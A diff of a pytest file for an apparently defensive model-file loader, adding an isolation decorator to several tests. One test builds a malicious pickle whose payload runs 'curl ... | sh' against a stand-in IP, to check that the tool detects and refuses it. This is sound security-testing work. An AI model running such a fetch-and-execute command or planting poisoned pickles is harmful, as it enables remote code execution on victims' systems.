@@ -9,6 +9,7 @@ import pytest
 import torch
 
 from tests.corpus.payloads import Does
+from tests.corpus.runs import ISOLATED
 from weighbridge.cli import main
 
 
@@ -47,6 +48,7 @@ def test_convert_refuses_by_name_and_partial_lists(here, capsys):
     assert main(["convert", "m.pt", "--no-digest", "--key", "release"]) == 2
 
 
+@ISOLATED
 def test_load_reports_what_was_tried_and_exits_with_1(here, capsys):
     (here / "m.pkl").write_bytes(pickle.dumps(Does("import os; os.system('curl -s http://198.51.100.7/x | sh')"), 2))
     assert main(["load", "--observe", "m.pkl"]) == 1
@@ -55,6 +57,7 @@ def test_load_reports_what_was_tried_and_exits_with_1(here, capsys):
     assert "foretold by PKL-001: the pickle calls" in out
 
 
+@ISOLATED
 @pytest.mark.parametrize(
     ("code", "told"),
     [
@@ -72,6 +75,7 @@ def test_load_names_the_limit_that_stopped_it(here, capsys, code, told):
     assert told in capsys.readouterr().out
 
 
+@ISOLATED
 def test_load_takes_tensors_out(here, capsys):
     torch.save(torch.nn.Sequential(torch.nn.Linear(2, 3)), "m.pt")
     assert main(["load", "m.pt", "--tensors", "m.safetensors"]) == 0
@@ -90,6 +94,7 @@ def test_load_says_what_it_cannot_do(here, capsys):
     assert main(["load", "missing.pkl"]) == 2
 
 
+@ISOLATED
 def test_the_public_functions(here):
     import weighbridge
 
@@ -103,6 +108,7 @@ def test_the_public_functions(here):
             loaded.read("b")
 
 
+@ISOLATED
 def test_doctor_tries_the_sandbox(capsys):
     assert main(["doctor"]) == 0
     out = capsys.readouterr().out
@@ -110,6 +116,7 @@ def test_doctor_tries_the_sandbox(capsys):
     assert "extra tensors: present" in out
 
 
+@ISOLATED
 def test_a_folder_stands_for_the_files_in_it_that_hold_code(here, capsys):
     (here / "models").mkdir()
     torch.save({"a": torch.ones(2)}, "models/m.pt")
